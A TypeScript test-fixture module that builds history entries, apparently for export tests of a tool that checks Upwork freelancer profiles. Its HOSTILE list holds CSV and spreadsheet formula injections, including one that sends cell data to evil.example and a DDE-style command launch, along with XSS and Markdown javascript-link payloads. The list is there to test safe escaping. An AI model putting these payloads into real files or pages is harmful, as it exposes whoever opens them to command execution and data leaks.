/**
 * History entries for the export tests: real checks of the Upwork fixtures (extractor + rules, as the extension
 * makes them) wrapped into HistoryEntry the way the history store keeps them, with manager input on top, and an
 * entry whose page-controlled text is hostile (quotes, commas, newlines, formulas, HTML, Markdown links).
 */
import { readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { checkHtml } from '../../lib/cli/check';
import { profileKey } from '../../lib/history/identity';
import { HistoryEntry, HISTORY_VERSION, type HistoryEntry as Entry } from '../../lib/history/schema';
import type { Profile } from '../../lib/profile/schema';
import type { Report } from '../../lib/report/schema';

const FIXTURES = resolve(dirname(fileURLToPath(import.meta.url)), '../fixtures');

export function entryFromCheck(profile: Profile, report: Report, extra: Partial<Entry> = {}): Entry {
  const at = report.createdAt;
  return HistoryEntry.parse({
    version: HISTORY_VERSION,
    identity: { key: profileKey(profile.source), platform: profile.source.platform, profileId: profile.source.profileId, url: profile.source.url, name: profile.name },
    firstSeen: at,
    lastSeen: at,
    checks: 1,
    snapshot: {
      name: profile.name,
      headline: profile.headline,
      location: profile.location && { raw: profile.location.raw, country: profile.location.country },
      photoUrl: profile.photo?.url ?? null,
      overview: profile.overview?.slice(0, 4000) ?? null,
      education: profile.education.map((e) => ({ school: e.school, degree: e.degree, start: e.start, end: e.end })),
      employment: profile.employment.map((e) => ({ company: e.company, title: e.title, country: e.country, start: e.start, end: e.end })),
      links: profile.links,
      paymentMentions: profile.paymentMentions,
      hourlyRate: profile.account.hourlyRate,
    },
    report,
    photo: null,
    photos: [],
    text: [],
    contacts: [],
    changes: [],
    dismissals: [],
    verified: null,
    notes: null,
    ...extra,
  });
}

/** Check a fixture page (`upwork/full-flagged.html`) as the CLI does; `now` fixes the report date. */
export function checkFixture(file: string, now = new Date('2026-11-20T09:30:00.000Z')) {
  const html = readFileSync(resolve(FIXTURES, file), 'utf8');
  const url = html.slice(0, 3000).match(/URL:\s*(https?:\/\/\S+)/)![1]!;
  return { ...checkHtml(html, url, { now }), url };
}

const PHOTO = {
  url: 'https://www.upwork.com/profile-portraits/c1abc_100x100.jpg',
  kind: 'photo' as const,
  phash: '0f0f0f0f0f0f0f0f',
  phashMirror: 'f0f0f0f0f0f0f0f0',
  dhash: '1234567890abcdef',
  width: 100,
  height: 100,
  hashedAt: '2026-11-20T09:30:00.000Z',
};

/** The flagged fixture with manager input: one dismissal, a verification, notes, a photo fingerprint, contacts. */
export function flaggedEntry(): Entry {
  const { profile, report } = checkFixture('upwork/full-flagged.html');
  const first = report.findings[0]!;
  return entryFromCheck(profile, report, {
    checks: 3,
    firstSeen: '2026-10-01T08:00:00.000Z',
    photo: PHOTO,
    photos: [PHOTO],
    contacts: [{ kind: 'email', value: 'dk@example.com', raw: 'DK@example.com' }],
    changes: [{ field: 'name', from: 'Dan K.', to: 'Daniel K.', at: '2026-11-01T10:00:00.000Z' }],
    dismissals: [{ ruleId: first.ruleId, title: first.title, note: 'Discussed on a video call; explained.', at: '2026-11-21T10:00:00.000Z' }],
    notes: {
      checklist: { camera: { answer: 'concern', note: 'Camera "broken" twice' }, drugTest: { answer: 'no-concern', note: '' } },
      shippingAddress: '12 Elm St, Springfield',
      previousAddresses: [],
      pasted: [{ kind: 'payment', text: 'Please pay to USDT wallet TX9...', addedAt: '2026-11-21T11:00:00.000Z' }],
      comment: 'Second interview booked.',
      updatedAt: '2026-11-21T11:00:00.000Z',
    },
  });
}

export function cleanEntry(): Entry {
  const { profile, report } = checkFixture('upwork/clean.html');
  return entryFromCheck(profile, report, { verified: { note: 'Met in person at the office.', at: '2026-11-22T09:00:00.000Z' } });
}

/** Text a page or a colleague could put anywhere: CSV breakers, spreadsheet formulas, HTML and Markdown. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1 (555) 010-9999',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\tTabbed',
  '\rReturn',
  "'quoted already",
  'He said "hi", then left,\nnew line\r\nand CRLF',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '[click me](javascript:alert(1)) ![img](http://evil.example/x.png)',
  '**bold** _it_ `code` # heading | pipe ~~strike~~ &lt;b&gt;',
  'visit http://evil.example or www.evil.example or mail bob@evil.example',
  '1. not a list\n- nor this\n> nor a quote\n---',
];

/** An entry whose page-controlled and manager text is all hostile. */
export function hostileEntry(): Entry {
  const { profile, report } = checkFixture('upwork/full-flagged.html');
  const h = HOSTILE.join(' || ');
  const findings = report.findings.map((f, i) => ({
    ...f,
    title: HOSTILE[i % HOSTILE.length]!,
    explanation: h,
    evidence: HOSTILE.map((x, j) => ({ field: `overview[${j}]`, excerpt: x })),
    nextStep: HOSTILE[(i + 1) % HOSTILE.length]!,
  }));
  const hostileProfile = { ...profile, name: HOSTILE[0]!, source: { ...profile.source, profileId: '~01hostile0000000000', url: 'https://www.upwork.com/freelancers/~01hostile0000000000' } };
  return entryFromCheck(hostileProfile, { ...report, name: HOSTILE[0]!, findings, levelReason: HOSTILE[8]! }, {
    dismissals: [{ ruleId: findings[0]!.ruleId, title: findings[0]!.title, note: HOSTILE[9]!, at: '2026-11-21T10:00:00.000Z' }],
    verified: { note: HOSTILE[7]!, at: '2026-11-22T10:00:00.000Z' },
    notes: {
      checklist: { threats: { answer: 'concern', note: HOSTILE[8]! } },
      shippingAddress: HOSTILE[1]!,
      previousAddresses: [HOSTILE[2]!],
      pasted: [{ kind: 'message', text: HOSTILE.join('\n'), addedAt: '2026-11-21T11:00:00.000Z' }],
      comment: HOSTILE[10]!,
      updatedAt: '2026-11-21T11:00:00.000Z',
    },
  });
}
